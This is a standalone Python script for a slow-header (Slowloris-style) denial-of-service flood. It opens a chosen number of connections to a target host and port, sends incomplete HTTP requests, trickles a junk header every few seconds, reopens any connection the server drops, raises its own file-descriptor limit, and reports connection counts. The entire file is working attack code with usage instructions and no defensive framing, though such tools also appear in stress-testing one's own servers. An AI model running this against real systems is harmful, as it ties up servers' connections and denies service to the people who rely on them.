#!/usr/bin/env python3
"""A slow-header flood: CONNECTIONS connections that each send a request line and a Host
header, then one more header line every INTERVAL seconds, never finishing the request.
A connection the server closes is opened again at once. Runs for SECONDS, then prints one
line of counts: opened, closed by the server, failed to connect, peak open.

Usage: slow_headers.py HOST PORT CONNECTIONS SECONDS [INTERVAL]
"""

import asyncio
import resource
import sys


async def trickler(host, port, interval, stop, counts):
    while not stop.is_set():
        try:
            reader, writer = await asyncio.open_connection(host, port)
        except OSError:
            counts["failed"] += 1
            await asyncio.sleep(0.5)
            continue
        counts["opened"] += 1
        counts["open"] += 1
        counts["peak"] = max(counts["peak"], counts["open"])
        try:
            writer.write(b"GET / HTTP/1.1\r\nHost: flood\r\n")
            await writer.drain()
            while not stop.is_set():
                try:
                    # The server closing the connection ends the read with b"".
                    if await asyncio.wait_for(reader.read(1024), timeout=interval) == b"":
                        counts["closed_by_server"] += 1
                        break
                except asyncio.TimeoutError:
                    writer.write(b"X-Slow: 1\r\n")
                    await writer.drain()
        except OSError:
            counts["closed_by_server"] += 1
        finally:
            counts["open"] -= 1
            writer.close()


async def main():
    host, port, connections, seconds = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4])
    interval = float(sys.argv[5]) if len(sys.argv) > 5 else 10.0
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    counts = {"opened": 0, "closed_by_server": 0, "failed": 0, "open": 0, "peak": 0}
    stop = asyncio.Event()
    tasks = []
    for i in range(connections):
        tasks.append(asyncio.create_task(trickler(host, port, interval, stop, counts)))
        if i % 500 == 499:
            await asyncio.sleep(0.05)
    await asyncio.sleep(seconds)
    stop.set()
    for task in tasks:
        task.cancel()
    await asyncio.gather(*tasks, return_exceptions=True)
    print(
        f"opened {counts['opened']} closed_by_server {counts['closed_by_server']} "
        f"failed {counts['failed']} peak_open {counts['peak']}"
    )


asyncio.run(main())
